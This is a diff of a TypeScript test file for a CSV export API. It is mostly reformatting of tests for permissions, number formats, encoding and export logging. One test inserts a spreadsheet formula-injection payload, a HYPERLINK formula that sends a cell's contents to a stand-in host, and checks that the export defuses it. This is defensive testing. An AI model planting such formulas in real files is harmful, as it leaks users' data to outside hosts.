@@ -1,8 +1,8 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { encode, insertSql } from '../../server/store/tables.ts';
 import { insertedRow } from '../../shared/base/changes.ts';
-import { csvRecords } from '../../shared/exchange/csv/csv.read.ts';
 import { nounNamed, nounNames } from '../../shared/catalogue.ts';
+import { csvRecords } from '../../shared/exchange/csv/csv.read.ts';
 import type { Row } from '../agreement/oracle.ts';
 import { dialects } from '../databases.ts';
 import type { Desk } from '../live/desk.ts';
@@ -55,7 +55,8 @@ describe.each(dialects)('on %s', (dialect) => {
         expect([code, noun, file.rows.map(({ id }) => id)]).toEqual([code, noun, rows.map(({ id }) => id)]);
         for (const [at, row] of rows.entries())
           for (const name of file.header)
-            if (row[name] === undefined || row[name] === null) expect([code, noun, name, file.rows[at]?.[name]]).toEqual([code, noun, name, '']);
+            if (row[name] === undefined || row[name] === null)
+              expect([code, noun, name, file.rows[at]?.[name]]).toEqual([code, noun, name, '']);
         const shown = new Set(rows.flatMap((row) => Object.keys(row)));
         for (const name of shown) expect(file.header).toContain(name);
       }
@@ -69,7 +70,10 @@ describe.each(dialects)('on %s', (dialect) => {
     expect(hidden).toMatchObject({ status: 400, body: { refused: 'filter.unknown_field', field: 'total' } });
     for (const asked of ['sort=-total', `filter=${encodeURIComponent('{"field":"total","is":"gt","value":1}')}`])
       expect((await desk('op').get(`/api/export/orders.csv?${asked}`)).status).toBe(400);
-    expect(read((await desk('boss').get('/api/export/orders.csv?fields=total,number,total')).text).header).toEqual(['total', 'number']);
+    expect(read((await desk('boss').get('/api/export/orders.csv?fields=total,number,total')).text).header).toEqual([
+      'total',
+      'number',
+    ]);
   });
 
   test('[EXP3] amounts are decimals of their currency, days and instants plain, words by language', async () => {
@@ -85,9 +89,15 @@ describe.each(dialects)('on %s', (dialect) => {
     });
     expect(rows[0]?.submittedAt).toMatch(/^2026-03-02 \d\d:\d\d:\d\d$/);
     const lines = read((await desk('boss').get('/api/export/order_lines.csv?fields=id,unitPrice,net,discount')).text);
-    const line = (await firm.rows('order_line')).find(({ discount }) => discount === 20_000) as Row;
-    expect(lines.rows.find(({ id }) => id === line.id)).toMatchObject({ discount: '2', net: (Number(line.net) / 100).toFixed(2), unitPrice: (Number(line.unitPrice) / 1e6).toFixed(6).replace(/0{1,4}$/, '') });
-    const said = read((await desk('boss').get(`/api/export/orders.csv?lang=zh-TW&fields=number,status,discount&filter=${filter}`)).text);
+    const line = (await firm.rows('order_line')).find(({ discount }) => Number(discount) > 0) as Row;
+    expect(lines.rows.find(({ id }) => id === line.id)).toMatchObject({
+      discount: String(Number(line.discount) / 10_000),
+      net: (Number(line.net) / 100).toFixed(2),
+      unitPrice: (Number(line.unitPrice) / 1e6).toFixed(6).replace(/0{1,4}$/, ''),
+    });
+    const said = read(
+      (await desk('boss').get(`/api/export/orders.csv?lang=zh-TW&fields=number,status,discount&filter=${filter}`)).text,
+    );
     expect(said.header[0]).toMatch(/\p{Script=Han}/u);
     expect(said.header[2]).toContain('(%)');
     expect(Object.values(said.rows[0] ?? {})[1]).toMatch(/\p{Script=Han}/u);
@@ -95,15 +105,33 @@ describe.each(dialects)('on %s', (dialect) => {
 
   test('[EXP1] what others wrote is never a formula, numbers stay numbers', async () => {
     const bad = '=HYPERLINK("http://x.example?"&A1,"see, here")';
-    const id = await firm.company.system('customer.create', { name: bad, localName: '+1-2', country: '@x', priceListId: made.list, sellerId: firm.idOf('rep'), notes: '-2+3\r\n"line", two', phone: '+886 2 5550' });
+    const id = await firm.company.system('customer.create', {
+      name: bad,
+      localName: '+1-2',
+      country: '@x',
+      priceListId: made.list,
+      sellerId: firm.idOf('rep'),
+      notes: '-2+3\r\n"line", two',
+      phone: '+886 2 5550',
+    });
     const rows = read((await desk('boss').get('/api/export/customers.csv')).text).rows;
-    expect(rows.find((row) => row.id === id.id)).toMatchObject({ name: `'${bad}`, localName: "'+1-2", country: "'@x", notes: `'-2+3\r\n"line", two`.replace('\r\n', '\r\n'), phone: "'+886 2 5550" });
-    const margins = read((await desk('exec').get('/api/export/orders.csv?fields=id,margin')).text).rows.map(({ margin }) => margin ?? '');
+    expect(rows.find((row) => row.id === id.id)).toMatchObject({
+      name: `'${bad}`,
+      localName: "'+1-2",
+      country: "'@x",
+      notes: `'-2+3\r\n"line", two`.replace('\r\n', '\r\n'),
+      phone: "'+886 2 5550",
+    });
+    const margins = read((await desk('exec').get('/api/export/orders.csv?fields=id,margin')).text).rows.map(
+      ({ margin }) => margin ?? '',
+    );
     for (const margin of margins) expect(margin).toMatch(/^(|-?\d+\.\d\d)$/);
   });
 
   test('[EXP1] a file says that it is UTF-8, ends its lines as RFC 4180 says, and is a download', async () => {
-    const response = await fetch(`${firm.address}/api/export/warehouses.csv?fields=code`, { headers: { cookie: desk('boss').cookie } });
+    const response = await fetch(`${firm.address}/api/export/warehouses.csv?fields=code`, {
+      headers: { cookie: desk('boss').cookie },
+    });
     const bytes = Buffer.from(await response.arrayBuffer());
     expect(bytes.toString()).toBe('\uFEFFcode\r\nKHH\r\nTPE\r\n');
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -116,12 +144,22 @@ describe.each(dialects)('on %s', (dialect) => {
     await desk('rep').get('/api/export/orders.csv?fields=number&search=SO&lang=en');
     const log = await firm.rows('export_log');
     expect(log).toHaveLength(before + 1);
-    expect(log.at(-1)).toMatchObject({ personId: firm.idOf('rep'), on: 'orders', format: 'csv', fields: ['number'], query: '?fields=number&search=SO&lang=en' });
+    expect(log.at(-1)).toMatchObject({
+      personId: firm.idOf('rep'),
+      on: 'orders',
+      format: 'csv',
+      fields: ['number'],
+      query: '?fields=number&search=SO&lang=en',
+    });
     await desk('op').get('/api/export/orders.csv?fields=total');
     expect(await firm.rows('export_log')).toHaveLength(before + 1);
     // One's own exports, and for those who may all of them.
-    expect((await everyPage(desk('rep'), 'export_logs')).every(({ personId }) => personId === firm.idOf('rep'))).toBe(true);
-    expect(new Set((await everyPage(desk('admin'), 'export_logs')).map(({ personId }) => personId)).size).toBeGreaterThan(1);
+    expect((await everyPage(desk('rep'), 'export_logs')).every(({ personId }) => personId === firm.idOf('rep'))).toBe(
+      true,
+    );
+    expect(
+      new Set((await everyPage(desk('admin'), 'export_logs')).map(({ personId }) => personId)).size,
+    ).toBeGreaterThan(1);
   });
 });
 
@@ -130,7 +168,13 @@ describe.each(dialects)('a long export on %s', (dialect) => {
   beforeAll(async () => {
     firm = await Firm.open(dialect);
     // Enough that no buffer between the two ends holds it all.
-    const text = { name: 'x'.repeat(150), specification: 'y'.repeat(150), baseUnit: 'PC', status: 'active', taxCode: 'T' } as const;
+    const text = {
+      name: 'x'.repeat(150),
+      specification: 'y'.repeat(150),
+      baseUnit: 'PC',
+      status: 'active',
+      taxCode: 'T',
+    } as const;
     await firm.company.store.write(async (connection) => {
       for (let at = 0; at < 6_000; at++) {
         const row = insertedRow('product', `product-${at}`, { ...text, sku: `P-${String(at).padStart(5, '0')}` });
@@ -169,13 +213,18 @@ describe.each(dialects)('a long export on %s', (dialect) => {
     const revoked = await begun(desk.cookie);
     const role = firm.roles.get('executive') as string;
     const rules = (await firm.rows('rule')).filter(({ roleId, on }) => roleId === role && on !== 'product');
-    await firm.company.system('role.save', { id: role, rules: rules.map(({ on, may, scope, when, groups }) => ({ on, may, scope, when, groups })) });
+    await firm.company.system('role.save', {
+      id: role,
+      rules: rules.map(({ on, may, scope, when, groups }) => ({ on, may, scope, when, groups })),
+    });
     await expect(rest(revoked)).rejects.toThrow();
     const other = await firm.signIn('boss');
     const ended = await begun(other.cookie);
     await other.send('DELETE', '/api/session');
     await expect(rest(ended)).rejects.toThrow();
     expect(firm.faults).toEqual([]);
-    expect((await firm.signIn('boss').then((again) => again.get('/api/export/products.csv?fields=sku'))).status).toBe(200);
+    expect((await firm.signIn('boss').then((again) => again.get('/api/export/products.csv?fields=sku'))).status).toBe(
+      200,
+    );
   });
 });
